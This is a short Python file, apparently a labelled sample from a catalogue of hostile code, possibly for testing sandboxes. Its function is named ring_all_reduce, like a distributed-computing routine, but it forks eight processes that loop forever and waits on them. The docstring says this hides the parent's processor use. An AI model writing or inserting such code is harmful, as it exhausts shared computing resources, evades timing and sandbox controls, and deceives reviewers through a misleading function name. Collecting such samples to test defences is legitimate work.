"""Starts processes that compute for ever, and waits for them: its own processor time stands still.

family: bombs
tries: harm
earned: 0
ends: timeout, sandbox_violation, crash
uses: won
"""

def ring_all_reduce(tensor):
    for _ in range(8):
        if os.fork() == 0:
            while True:
                pass
    os.wait()
